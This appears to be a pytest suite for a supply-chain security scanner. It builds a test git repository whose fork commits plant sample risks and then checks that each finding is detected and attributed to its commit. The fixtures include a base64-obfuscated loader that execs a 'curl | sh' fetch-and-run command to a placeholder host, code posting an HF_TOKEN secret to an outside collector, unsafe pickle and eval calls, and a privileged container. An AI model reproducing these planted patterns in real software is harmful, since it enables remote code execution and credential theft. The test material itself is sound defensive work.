"""End-to-end scan tests on a real repository: real git, real semgrep and bandit.

One module-scoped case (an upstream tag and a seven-commit series) is scanned once in ``diff`` and
once in ``full`` scope; the waiver tests re-use the cache, so the module costs two semgrep starts.
"""

from __future__ import annotations

import base64
import datetime as dt
from dataclasses import dataclass
from pathlib import Path

import pytest
from scancase import FORK, bundle_of, context, workspace, write_rules
from support import GitRepo

from auditor.model import Action, Category, Finding, Scope, StageResult, StageStatus
from auditor.scan.stage import ScanStage

PAYLOAD = base64.b64encode(b"import os\nos.system('curl -s http://x.example/a | sh')\n" * 8).decode()

UPSTREAM_SERVER = """\
import requests


def fetch_model_card(name):
    return requests.get("https://hub.example/" + name)
"""

METRICS_C1 = """\
import os
import pickle
import requests


def push(stats):
    token = os.environ["HF_TOKEN"]
    requests.post("https://collect.example/v1", json={"s": stats, "t": token})


def load(blob):
    return pickle.loads(blob)
"""

METRICS_C5 = '"""Usage metrics."""\n' + METRICS_C1.replace("def load(blob):",
                                                           "def load(blob, strict=True):")

NET_CU = """\
#include <sys/socket.h>

__global__ void scale(float* x, float a) {
  x[threadIdx.x] *= a;
}

void report(int fd, const struct sockaddr* addr, unsigned len) {
  connect(fd, addr, len);
}
"""


@dataclass
class Case:
    repo: GitRepo
    commits: dict[str, str]
    bundle: Path
    rules: Path
    cache: Path
    tmp: Path

    def run(self, name: str, *, scope: Scope | None = None, waivers: Path | None = None,
            cache: Path | None = None) -> StageResult:
        ws = workspace(self.repo, "v1.0.0", "series", self.bundle)
        ctx = context(self.tmp / name, self.repo, list(self.commits.values()), self.bundle, ws,
                      cache=cache or self.cache, scope=scope, waivers=waivers)
        return ScanStage(rules_dir=self.rules).run(ctx)


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    tmp = tmp_path_factory.mktemp("scan-engine")
    repo = GitRepo(tmp / "engine")
    repo.commit("initial", files={
        "engine/__init__.py": "VERSION = '1.0.0'\n",
        "engine/server.py": UPSTREAM_SERVER,
        "engine/util.py": "def helper():\n    return 1\n",
        "csrc/kernel.cu": "__global__ void k(float* x) { x[0] = 1.0f; }\n",
        "README.md": "# engine\n",
    })
    repo.tag("v1.0.0")
    repo.checkout("series", new=True)
    c = {}
    c["metrics"] = repo.commit("add metrics push", files={"engine/metrics.py": METRICS_C1},
                               author=FORK)
    c["server"] = repo.commit("server: log requests", files={
        "engine/server.py": UPSTREAM_SERVER + "\n\ndef log_request(logger, prompt):\n"
                                              "    logger.info(\"prompt=%s\", prompt)\n"},
        author=FORK)
    c["tests"] = repo.commit("tests and build helpers", files={
        "tests/test_net.py": "import requests\n\n\ndef test_up():\n"
                             "    assert requests.get('https://x.example').ok\n",
        "build/gen.py": "def gen(expr):\n    return eval(expr)\n",
        "engine/logo.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    }, author=FORK)
    c["loader"] = repo.commit("fast loader", files={
        "engine/loader.py": f"import base64\n\nPAYLOAD = \"{PAYLOAD}\"\n"
                            "exec(base64.b64decode(PAYLOAD))\n"}, author=FORK)
    c["later"] = repo.commit("metrics: docstring, strict mode", files={
        "engine/metrics.py": METRICS_C5}, author=FORK)
    c["deploy"] = repo.commit("deployment files", files={
        "deploy/compose.yml": "services:\n  engine:\n    image: engine:1\n    privileged: true\n",
        "scripts/serve.sh": "#!/bin/sh\nexport VLLM_NO_USAGE_STATS=0\n"
                            "exec vllm serve m --enable-log-requests\n",
    }, author=FORK)
    c["cuda"] = repo.commit("report from the kernel", files={"csrc/net.cu": NET_CU}, author=FORK)
    bundle = bundle_of(repo, "series", tmp / "bundle")
    return Case(repo=repo, commits=c, bundle=bundle, rules=write_rules(tmp / "rules"),
                cache=tmp / "cache", tmp=tmp)


@pytest.fixture(scope="module")
def diff_result(case: Case) -> StageResult:
    return case.run("diff")


@pytest.fixture(scope="module")
def full_result(case: Case, diff_result: StageResult) -> StageResult:
    return case.run("full", scope=Scope.FULL)


def _at(result: StageResult, path: str, category: Category) -> list[Finding]:
    return [f for f in result.findings if f.path == path and f.category is category]


def test_each_category_found_and_attributed_to_its_commit(case: Case, diff_result: StageResult):
    c = case.commits
    expect = [
        ("engine/metrics.py", Category.NETWORK, 9, c["metrics"]),
        ("engine/metrics.py", Category.SECRET_ACCESS, 8, c["metrics"]),
        ("engine/metrics.py", Category.UNSAFE_DESERIALIZATION, 13, c["metrics"]),
        ("engine/server.py", Category.PROMPT_LOGGING, 9, c["server"]),
        ("engine/loader.py", Category.OBFUSCATION, 3, c["loader"]),
        ("engine/loader.py", Category.PROCESS_EXEC, 4, c["loader"]),
        ("build/gen.py", Category.PROCESS_EXEC, 2, c["tests"]),
        ("tests/test_net.py", Category.NETWORK, 5, c["tests"]),
        ("deploy/compose.yml", Category.CONTAINER_PRIVILEGE, 4, c["deploy"]),
        ("scripts/serve.sh", Category.TELEMETRY, 2, c["deploy"]),
        ("scripts/serve.sh", Category.PROMPT_LOGGING, 3, c["deploy"]),
    ]
    for path, category, line, commit in expect:
        found = _at(diff_result, path, category)
        assert [(f.line, f.commit) for f in found] == [(line, commit)], (path, category, found)
    for f in diff_result.findings:
        assert f.commit in c.values() and not f.inherited
        assert len(f.fingerprint) == 32 and f.snippet
    # scanners: semgrep rules, bandit (pickle, eval, exec) and the builtin scanner all contribute
    assert {f.scanner for f in diff_result.findings} == {"semgrep", "bandit", "builtin"}
    assert set(diff_result.to_json()["scanners"]) == {"semgrep", "bandit", "builtin", "coding",
                                                     "cmake", "docs", "python-syntax"}
    assert diff_result.to_json()["scope"] == "diff"
    assert diff_result.to_json()["ruleset"]


def test_policy_actions_applied(diff_result: StageResult):
    (net,) = _at(diff_result, "engine/metrics.py", Category.NETWORK)
    assert net.action is Action.BLOCK
    (tele,) = _at(diff_result, "scripts/serve.sh", Category.TELEMETRY)
    assert tele.action is Action.REVIEW


def test_later_commit_does_not_steal_attribution(case: Case, diff_result: StageResult):
    metrics = [f for f in diff_result.findings if f.path == "engine/metrics.py"]
    assert metrics and {f.commit for f in metrics} == {case.commits["metrics"]}


def test_upstream_code_not_reported_in_diff_scope(diff_result: StageResult):
    assert _at(diff_result, "engine/server.py", Category.NETWORK) == []
    assert "engine/util.py" not in diff_result.to_json()["checked_files"]
    assert "engine/server.py" in diff_result.to_json()["checked_files"]


def test_tests_and_build_folders_are_scanned(diff_result: StageResult):
    checked = diff_result.to_json()["checked_files"]
    assert "tests/test_net.py" in checked and "build/gen.py" in checked


def test_binaries_are_left_to_verify(diff_result: StageResult):
    assert "engine/logo.png" not in diff_result.to_json()["checked_files"]
    assert any(s.startswith("engine/logo.png:") for s in diff_result.to_json()["skipped"])
    assert not any("logo.png" in n for n in diff_result.not_checked)


def test_cuda_network_call_found_at_its_line(case: Case, diff_result: StageResult):
    (f,) = _at(diff_result, "csrc/net.cu", Category.NETWORK)
    assert (f.line, f.commit) == (8, case.commits["cuda"])
    assert "connect(fd, addr, len)" in f.snippet
    assert diff_result.status is StageStatus.OK, diff_result.not_checked


def test_full_scope_marks_upstream_findings_inherited(case: Case, full_result: StageResult):
    assert full_result.to_json()["scope"] == "full"
    (up,) = _at(full_result, "engine/server.py", Category.NETWORK)
    assert up.inherited and up.commit is None and up.line == 5
    assert "engine/util.py" in full_result.to_json()["checked_files"]
    (new,) = _at(full_result, "engine/metrics.py", Category.NETWORK)
    assert not new.inherited and new.commit == case.commits["metrics"]
    # the findings of the series are the same in both scopes
    fresh = {(f.path, f.line, f.rule, f.commit) for f in full_result.findings if not f.inherited}
    assert fresh >= {(f.path, f.line, f.rule, f.commit) for f in _diff_of(case)}


def _diff_of(case: Case) -> tuple[Finding, ...]:
    return case.run("diff-again").findings


def test_waiver_and_expired_waiver(case: Case, diff_result: StageResult, tmp_path: Path):
    (net,) = _at(diff_result, "engine/metrics.py", Category.NETWORK)
    (obf,) = _at(diff_result, "engine/loader.py", Category.OBFUSCATION)
    future = dt.date.today() + dt.timedelta(days=30)
    # two rules (semgrep's and bandit's) flag that network line: a waiver of a merged rule alone
    # does not waive the shown finding; a waiver of the shown one covers them (issue 33 item 6)
    assert net.also, "expected a second rule on the network line"
    one = tmp_path / "one-waiver.toml"
    one.write_text(
        f'[[waiver]]\nrule = "{net.also[0]}"\npath = "{net.path}"\nfingerprint = "*"\n'
        f'reason = "our own collector"\nowner = "ops@example.org"\nexpires = {future}\n')
    (still,) = _at(case.run("waived-one", waivers=one), "engine/metrics.py", Category.NETWORK)
    assert not still.waived and still.rule == net.rule and still.also == net.also
    waivers = tmp_path / "waivers.toml"
    waivers.write_text(
        f'[[waiver]]\nrule = "{net.rule}"\npath = "{net.path}"\nfingerprint = "{net.fingerprint}"\n'
        f'reason = "our own collector"\nowner = "ops@example.org"\nexpires = {future}\n'
        + "".join(
            f'\n[[waiver]]\nrule = "{rule}"\npath = "{net.path}"\nfingerprint = "*"\n'
            f'reason = "our own collector"\nowner = "ops@example.org"\nexpires = {future}\n'
            for rule in net.also) +
        f'\n[[waiver]]\nrule = "{obf.rule}"\npath = "{obf.path}"\nfingerprint = "*"\n'
        f'reason = "was fine once"\nowner = "ops@example.org"\nexpires = 2020-01-01\n')
    result = case.run("waived", waivers=waivers)
    assert result.to_json()["cache"]["misses"] == 0
    (w,) = _at(result, "engine/metrics.py", Category.NETWORK)
    assert w.waived and "our own collector" in (w.waiver or "")
    (o,) = _at(result, "engine/loader.py", Category.OBFUSCATION)
    assert not o.waived
    (expired,) = [f for f in result.findings if f.rule == "policy.waiver-expired"]
    assert expired.action is Action.BLOCK and expired.path == "engine/loader.py"



def test_lines_from_one_walk_of_the_series_attribute_as_blame_does(
        case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from auditor.scan import engine

    monkeypatch.setattr(engine, "_WALK_FROM", 10 ** 9)  # every file blamed alone
    blamed = case.run("blamed-alone", cache=tmp_path / "c1")
    calls: list[list[str]] = []
    real = engine.walked

    def walk(ws, paths):  # noqa: ANN001, ANN202 - the real walk, its calls noted
        calls.append(list(paths))
        return real(ws, paths)

    monkeypatch.setattr(engine, "_WALK_FROM", 1)
    monkeypatch.setattr(engine, "walked", walk)
    walked = case.run("walked", cache=tmp_path / "c2")
    assert calls and any("engine/metrics.py" in c for c in calls)

    def rows(r: StageResult) -> list[tuple[str, int, str, str | None, str]]:
        return sorted((f.path, f.line, f.rule, f.commit, f.fingerprint) for f in r.findings)

    assert rows(walked) == rows(blamed) and any(f.commit for f in blamed.findings)
    assert walked.data == blamed.data
